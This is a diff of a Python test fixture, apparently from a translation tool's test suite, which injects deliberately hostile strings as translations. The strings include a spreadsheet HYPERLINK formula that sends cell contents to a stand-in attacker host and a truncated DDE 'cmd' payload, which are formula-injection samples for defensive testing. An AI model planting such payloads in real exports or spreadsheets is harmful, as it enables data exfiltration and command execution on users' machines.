@@ -16,10 +16,10 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' 
 
 
 @pytest.fixture
-def hostile(run, samples, db_path):
+def hostile(run, samples):
     assert run("import", str(samples / "ru-budget.txt")).exit_code == 0
     texts = iter(HOSTILE)
-    translate(db_path, "ru-budget", "uk", text=lambda key, src: next(texts, f"[uk] {src}"))
+    translate(run.db_path, "ru-budget", "uk", text=lambda key, src: next(texts, f"[uk] {src}"))
     return run.json("units", "ru-budget")
 
 
